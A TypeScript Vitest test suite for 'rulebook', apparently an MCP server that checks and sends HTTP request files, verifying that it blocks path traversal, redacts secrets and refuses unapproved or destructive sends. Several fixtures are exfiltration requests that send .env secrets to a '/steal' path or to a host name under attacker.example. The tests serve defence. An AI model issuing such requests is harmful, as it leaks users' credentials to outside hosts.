import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { commandLine, folderOf, spawnCommandLine } from './command-line';
import { connect } from './mcp-client';

const mistake = 'POST /_security/api_key\n\n{ "nam": "a", "expiration": "1d" }\n';

describe('rulebook mcp', () => {
  it('introduces itself and its tools, none of which sends', async () => {
    const { client } = await connect(folderOf({}));
    expect(client.getServerVersion()).toMatchObject({ name: 'rulebook' });
    expect(client.getInstructions()).toContain('check_requests');
    const { tools } = await client.listTools();
    expect(tools.map(({ name }) => name)).toEqual([
      'check_requests',
      'complete_request',
      'describe_request',
      'plan_request',
      'derive_privileges',
      'list_resources_of_service',
    ]);
    for (const { annotations, description, inputSchema } of tools) {
      expect(annotations).toMatchObject({ readOnlyHint: true, openWorldHint: false });
      expect(description?.length).toBeGreaterThan(50);
      expect(inputSchema.type).toBe('object');
    }
  });

  it('checks a text and a file, and applies safe fixes to the text only', async () => {
    const folder = folderOf({ 'keys.http': mistake });
    const { call } = await connect(folder);
    const ofText = await call('check_requests', { text: mistake });
    expect(ofText.text).toContain('line 3, column 3: warning: `nam` is not a documented field');
    expect(ofText.structuredContent).toMatchObject({
      requests: 1,
      findings: expect.arrayContaining([
        expect.objectContaining({ rule: 'unknown-field', start: { line: 3, column: 3 }, fix: 'Change to ‘name’' }),
      ]) as unknown,
    });
    expect((await call('check_requests', { path: 'keys.http' })).text).toBe(ofText.text);
    const comma = '{ "name": "a", "expiration": "1d", }\n';
    const fixed = await call('check_requests', {
      text: `POST /_security/api_key\n\n${comma}`,
      fix: true,
      minSeverity: 'warning',
    });
    expect(fixed.structuredContent).toMatchObject({
      text: 'POST /_security/api_key\n\n{ "name": "a", "expiration": "1d" }\n',
      fixes: 1,
      findings: [],
    });
  });

  it('takes the rulebook.json of the folder', async () => {
    const folder = folderOf({ 'a/rulebook.json': '{ "rules": { "unknown-field": "error" } }' });
    const { call } = await connect(folder);
    expect((await call('check_requests', { text: mistake, path: 'a/x.http' })).text).toContain('error: `nam`');
    expect((await call('check_requests', { text: mistake, path: 'x.http' })).text).toContain('warning: `nam`');
  });

  it('completes', async () => {
    const { call } = await connect(folderOf({}));
    const text = 'POST /_security/api_key\n\n{ "e" }\n';
    const { structuredContent } = await call('complete_request', { text, line: 3, column: 5 });
    expect(structuredContent).toMatchObject({
      items: expect.arrayContaining([
        expect.objectContaining({
          label: 'expiration',
          edits: [expect.objectContaining({ start: { line: 3, column: 3 }, end: { line: 3, column: 6 } })],
        }),
      ]) as unknown,
    });
    expect(await call('complete_request', { text, line: 9, column: 1 })).toMatchObject({ isError: true });
  });

  it('describes a request, a part of its body, and finds requests by words', async () => {
    const { call } = await connect(folderOf({}));
    const { text } = await call('describe_request', { request: 'DELETE /_snapshot/nightly' });
    expect(text).toContain('**Loss**');
    expect(text).toContain('## Query parameters');
    const part = await call('describe_request', {
      request: 'POST /_security/api_key',
      part: '/role_descriptors/r/indices',
    });
    expect(part.text).toContain('- `privileges` (array of strings, **required**)');
    expect((await call('describe_request', { request: 'create webhook' })).text).toContain(
      '`POST /repos/{owner}/{repo}/hooks`',
    );
    const unknown = await call('describe_request', { request: 'POST /_securty/api_key' });
    expect(unknown).toMatchObject({ isError: true });
    expect(unknown.text).toContain('near it: ');
  });

  it('plans without sending, and shows neither secrets nor the content of body files', async () => {
    const folder = folderOf({
      '.env': 'TOKEN=of-the-file-4711\n',
      'body.json': '{ "name": "inside-the-file" }',
    });
    const { call } = await connect(folder, [], { HIDDEN: 'of-the-environment-4712' });
    const text = [
      'POST http://127.0.0.1:1/_security/api_key?a={{a}}',
      'X-One: {{$dotenv TOKEN}}',
      'X-Two: {{$processEnv HIDDEN}}',
      '',
      '< ./body.json',
      '',
    ].join('\n');
    const planned = await call('plan_request', { text, variables: { a: 'one' } });
    expect(planned.text).toContain('POST http://127.0.0.1:1/_security/api_key?a=one');
    expect(planned.text).toContain('the content of ./body.json');
    expect(JSON.stringify(planned)).not.toMatch(/4711|4712|inside-the-file/);
  });

  it('plans every request of a text unless one is chosen, and cuts a long body', async () => {
    const { call } = await connect(folderOf({}));
    const long = `{ "name": "${'a'.repeat(50_000)}" }`;
    const text = `### One\nGET /_cluster/health\n\n### Two\nPOST /_security/api_key\n\n${long}\n`;
    const all = await call('plan_request', { text });
    expect(all.structuredContent).toMatchObject({ requests: [{ method: 'GET' }, { method: 'POST', bodyCut: true }] });
    expect(all.text.length).toBeLessThan(30_000);
    const one = await call('plan_request', { text, name: 'One' });
    expect(one.structuredContent).toMatchObject({
      requests: [{ url: expect.stringContaining('/_cluster/health') as unknown }],
    });
  });

  it.each(['../outside.http', '/etc/hosts', '.', 'link.http'])(
    'reads nothing outside of its folder: %s',
    async (path) => {
      const outer = folderOf({ 'outside.http': 'GET /_outside_4713\n', 'inner/a.http': 'GET /\n' });
      const { symlinkSync } = await import('node:fs');
      symlinkSync(join(outer, 'outside.http'), join(outer, 'inner/link.http'));
      const { call } = await connect(join(outer, 'inner'), ['--allow-sending']);
      for (const tool of ['check_requests', 'plan_request', 'send_request']) {
        const { isError, text } = await call(tool, { path });
        expect({ tool, isError }).toEqual({ tool, isError: true });
        expect(text).not.toContain('4713');
      }
    },
  );

  it('names what is wrong with the arguments of a call', async () => {
    const { call } = await connect(folderOf({}));
    expect((await call('check_requests', {})).text).toContain('give the `text`');
    expect(await call('complete_request', { text: 'GET /\n', line: 0, column: 1 })).toMatchObject({ isError: true });
    expect(await call('send_request', { path: 'a.http' })).toMatchObject({ isError: true });
  });

  it('sends only with --allow-sending, and nothing that destroys', async () => {
    const received: string[] = [];
    const server = createServer((request, response) => {
      received.push(`${request.method ?? ''} ${request.url ?? ''}`);
      response.end('{}');
    });
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    onTestFinished(() => void server.close());
    const { port } = server.address() as AddressInfo;
    const folder = folderOf({
      'a.http':
        '### Read\nGET /_cluster/health\n\n> {% client.log("status", response.status) %}\n\n### Remove\nDELETE /_snapshot/nightly\n',
    });
    const endpoints = { test: { service: 'search-cluster', baseUrl: `http://127.0.0.1:${port}` } };
    writeFileSync(join(folder, 'rulebook.json'), JSON.stringify({ endpoints, defaults: { 'search-cluster': 'test' } }));
    const { call, client } = await connect(folder, ['--allow-sending', '--allow-endpoint', 'test']);
    const { tools } = await client.listTools();
    expect(tools.find(({ name }) => name === 'send_request')?.annotations).toMatchObject({ destructiveHint: true });
    const read = await call('send_request', { path: 'a.http', name: 'Read' });
    expect(read.text).toContain('HTTP/1.1 200');
    // Scripts run as on the command line.
    expect(read.text).toContain('# Log: status 200');
    const removed = await call('send_request', { path: 'a.http', name: 'Remove' });
    expect(removed).toMatchObject({ isError: true });
    expect(removed.text).toContain('--yes');
    expect(received).toEqual(['GET /_cluster/health']);
  });

  it.each([
    ['accept', true],
    ['accept', false],
    ['decline', true],
  ] as const)('asks the user by a client that can ask: %s %s', async (action, send) => {
    const received: string[] = [];
    const server = createServer((request, response) => {
      received.push(`${request.method ?? ''} ${request.url ?? ''} ${String(request.headers['x-key'])}`);
      response.end('{}');
    });
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    onTestFinished(() => void server.close());
    const { port } = server.address() as AddressInfo;
    const folder = folderOf({
      'a.http': '### Remove\nDELETE /_snapshot/nightly\nX-Key: {{$processEnv OTHER}}\n',
    });
    const test = { service: 'search-cluster', baseUrl: `http://127.0.0.1:${port}`, protected: true };
    writeFileSync(
      join(folder, 'rulebook.json'),
      JSON.stringify({ endpoints: { test }, defaults: { 'search-cluster': 'test' } }),
    );
    const settings = folderOf({});
    const env = { OTHER: 'canary-4716', XDG_CONFIG_HOME: settings, APPDATA: settings };
    const sending = ['--allow-sending', '--allow-endpoint', 'test'];
    const questions: string[] = [];
    const { call } = await connect(folder, sending, env, (question) => {
      questions.push(question);
      return { action, content: { send } };
    });
    const isSent = action === 'accept' && send;
    for (let time = 0; time < 2; time++) {
      const { text, isError = false } = await call('send_request', { path: 'a.http' });
      expect({ isError, text }).toEqual({
        isError: !isSent,
        text: expect.stringContaining(isSent ? '200' : 'the user did not confirm it') as unknown,
      });
      expect(text).not.toContain('canary');
    }
    expect(received).toEqual(isSent ? Array(2).fill('DELETE /_snapshot/nightly canary-4716') : []);
    // Nothing is remembered: the second time asks the same.
    expect(questions).toHaveLength(isSent ? 4 : 2);
    expect(questions[0]).toMatch(/^Send "Remove" to the protected endpoint test/);
    if (isSent) expect(questions[1]).toContain('the environment variable OTHER');
    expect(questions.join()).not.toContain('canary');
  });

  it('derives privileges and the resources of a service', async () => {
    const { call } = await connect(folderOf({ 'a.http': 'PUT /_snapshot/nightly\n\n{ "type": "fs" }\n' }));
    expect((await call('derive_privileges', { path: 'a.http' })).text).toContain('manage');
    expect(await call('derive_privileges', { path: '../a.http' })).toMatchObject({ isError: true });
    expect((await call('list_resources_of_service', { service: 'code-hosting' })).text).toContain('/repos/{owner}');
    for (const service of ['a.http', '../a', '--help', 'none'])
      expect(await call('list_resources_of_service', { service })).toMatchObject({ isError: true });
  });

  it('has the request files below its folder and their findings as resources', async () => {
    const folder = folderOf({
      'in a/keys.http': `# Bearer of a file\n${mistake}Authorization: Bearer canary-4717-canary\n`,
      '.env': 'S=canary-4718\n',
      'notes.txt': 'canary-4719',
    });
    const { client } = await connect(folder);
    const { resources } = await client.listResources();
    expect(resources.map(({ name }) => name).sort()).toEqual(['Findings of in a/keys.http', 'in a/keys.http']);
    const texts: string[] = [];
    for (const { uri } of resources) {
      const [content] = (await client.readResource({ uri })).contents;
      texts.push(content !== undefined && 'text' in content ? content.text : '');
    }
    expect(texts.join('\n')).toContain('POST /_security/api_key');
    expect(texts.join('\n')).toContain('unknown-field');
    expect(texts.join('\n')).not.toContain('canary');
    for (const path of ['.env', 'notes.txt', '../keys.http', '%2e%2e/keys.http', 'none.http'])
      await expect(client.readResource({ uri: `rulebook://file/${path}` })).rejects.toThrow();
  });

  it('treats what was protected at the start as protected, whatever the files say later', async () => {
    const received: string[] = [];
    const server = createServer((request, response) => {
      received.push(`${request.method ?? ''} ${request.url ?? ''}`);
      response.end('{}');
    });
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    onTestFinished(() => void server.close());
    const baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const configuration = (endpoints: object) => JSON.stringify({ endpoints });
    const test = { service: 'search-cluster', baseUrl };
    const folder = folderOf({
      'rulebook.json': configuration({ test: { ...test, protected: true } }),
      'a.http': '# @endpoint test\nPOST /books/_doc\n\n{}\n\n### read\n# @endpoint test\nGET /_cluster/health\n',
      'b.http': `POST ${baseUrl}/books/_doc\n\n{}\n`,
    });
    const { call } = await connect(folder, ['--allow-sending', '--allow-endpoint', 'test']);
    expect((await call('send_request', { path: 'a.http', name: 'read' })).isError).not.toBe(true);
    expect((await call('send_request', { path: 'a.http', line: 2 })).text).toContain('is protected');
    for (const endpoints of [{ test }, { other: test }, {}]) {
      writeFileSync(join(folder, 'rulebook.json'), configuration(endpoints));
      for (const path of ['a.http', 'b.http'])
        expect(await call('send_request', { path, line: 1 })).toHaveProperty('isError', true);
    }
    expect(received).toEqual(['GET /_cluster/health']);
  });

  it('treats an environment that was protected at the start as protected', async () => {
    const received: string[] = [];
    const server = createServer((request, response) => {
      received.push(`${request.method ?? ''} ${request.url ?? ''}`);
      response.end('{}');
    });
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    onTestFinished(() => void server.close());
    const baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const test = { service: 'search-cluster', baseUrl };
    const folder = folderOf({
      'rulebook.json': JSON.stringify({ endpoints: { test }, environments: { prod: { protected: true } } }),
      'http-client.env.json': '{ "prod": { "name": "books" } }',
      'a.http': '# @endpoint test\nPOST /{{name}}/_doc\n\n{}\n',
    });
    const { call } = await connect(folder, ['--allow-sending', '--allow-endpoint', 'test']);
    for (const environments of [{ prod: { protected: true } }, {}]) {
      writeFileSync(join(folder, 'rulebook.json'), JSON.stringify({ endpoints: { test }, environments }));
      const sent = await call('send_request', { path: 'a.http', line: 1, env: 'prod' });
      expect(sent.isError).toBe(true);
      expect(sent.text).toContain('prod');
    }
    expect(received).toEqual([]);
  });

  it('sends to the endpoints that were named at the start, whatever the files say later', async () => {
    const received: string[] = [];
    const server = createServer((request, response) => {
      received.push(request.url ?? '');
      if (request.url === '/away') response.writeHead(302, { location: `http://localhost:${port}/redirected` });
      response.end('{}');
    });
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    onTestFinished(() => void server.close());
    const { port } = server.address() as AddressInfo;
    const [named, other] = [`http://127.0.0.1:${port}`, `http://localhost:${port}`];
    const configuration = (baseUrl: string, more: object = {}) =>
      JSON.stringify({ endpoints: { test: { service: 'search-cluster', baseUrl, ...more } } });
    const folder = folderOf({
      'rulebook.json': configuration(named),
      '.env': 'S=canary-4713\n',
      'a.http': `# @endpoint test\nGET /one\n`,
      'b.http': `GET ${other}/steal?d={{$dotenv S}}\n`,
      'c.http': `@host = ${other}\n\nPOST {{host}}/steal\n\n< ./.env\n`,
      'd.http': `GET ${named}/away\n`,
    });
    const { call } = await connect(folder, ['--allow-sending', '--allow-endpoint', 'test']);
    expect((await call('send_request', { path: 'a.http' })).isError).not.toBe(true);
    for (const path of ['b.http', 'c.http']) {
      const { isError, text } = await call('send_request', { path });
      expect({ path, isError }).toEqual({ path, isError: true });
      expect(text).toContain('start it with --allow-endpoint');
    }
    expect((await call('send_request', { path: 'd.http' })).text).toContain('302');
    for (const changed of [configuration(other), configuration(named, { proxy: other })]) {
      writeFileSync(join(folder, 'rulebook.json'), changed);
      expect((await call('send_request', { path: 'a.http' })).isError).toBe(true);
    }
    expect(received).toEqual(['/one', '/away']);
  });

  it('shows no private value that is in a host or in a file that is sent', async () => {
    const server = createServer((request, response) => void request.pipe(response));
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    onTestFinished(() => void server.close());
    const named = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const folder = folderOf({
      '.env': 'S=Canary4713\n',
      'host.http': 'GET http://{{$dotenv S}}.attacker.example/\n',
      'local.http': 'GET http://{{$dotenv S}}.localhost:1/\n',
      'file.http': `POST ${named}/\nContent-Type: text/plain\n\n< ./.env\n`,
      'env.http': `GET ${named}/\nX: {{$processEnv OTHER}}\n`,
    });
    const sending = ['--allow-sending', '--allow-endpoint', named];
    const { call } = await connect(folder, sending, { OTHER: 'canary-4714' });
    const texts: string[] = [];
    for (const path of ['host.http', 'local.http', 'file.http', 'env.http'])
      texts.push((await call('send_request', { path })).text);
    expect(texts.join('\n')).not.toMatch(/canary/i);
    expect(texts[0]).toContain('has not been sent to http://***.attacker.example before');
    expect(texts[1]).toContain('it goes to http://***.localhost:1, which was not named');
    expect(texts[2]).toContain('S=***');
    // An option that this command does not have would help no one.
    expect(texts[3]).toContain('the user can send it with `rulebook run`');
    expect(texts.join('\n')).not.toContain('--allow-origin');
  });

  it('sends to the sandbox only, where no endpoint is named', async () => {
    const folder = folderOf({
      'rulebook.json': JSON.stringify({
        endpoints: { test: { service: 'search-cluster', baseUrl: 'http://127.0.0.1:1' } },
      }),
      'a.http': '# @endpoint test\nGET /_cluster/health\n',
      'b.http': 'GET http://127.0.0.1:1/x\n',
    });
    const { call } = await connect(folder, ['--allow-sending']);
    for (const path of ['a.http', 'b.http'])
      expect((await call('send_request', { path })).text).toContain('was not named when the server was started');
  });

  it.each([
    ['--allow-endpoint', 'test'],
    ['--allow-sending', '--allow-endpoint', 'nowhere'],
  ])('does not start with %s %s', async (...args) => {
    expect((await commandLine(['mcp', ...args], { cwd: folderOf({}) })).code).toBe(2);
  });

  it('survives lines that are no messages, and ends when the client closes the connection', async () => {
    const child = spawnCommandLine(['mcp'], { cwd: folderOf({}) });
    const ended = new Promise<number | null>((done) => child.on('close', done));
    let out = '';
    child.stdout.setEncoding('utf8').on('data', (chunk: string) => (out += chunk));
    child.stdin.write('this is no JSON\n{"jsonrpc":"2.0"}\n');
    child.stdin.end('{"jsonrpc":"2.0","id":7,"method":"ping"}\n');
    expect(await ended).toBe(0);
    expect(
      out
        .split('\n')
        .filter((line) => line !== '')
        .map((line) => JSON.parse(line) as unknown),
    ).toContainEqual({
      jsonrpc: '2.0',
      id: 7,
      result: {},
    });
  });
});

it('`rulebook describe` shows a request', async () => {
  const { code, out } = await commandLine(['describe', 'PUT /_snapshot/backup', '--part', '/settings']);
  expect(code).toBe(0);
  expect(out).toContain('`location`');
  expect((await commandLine(['describe', 'PUT /_snapshott/backup'])).code).toBe(2);
});
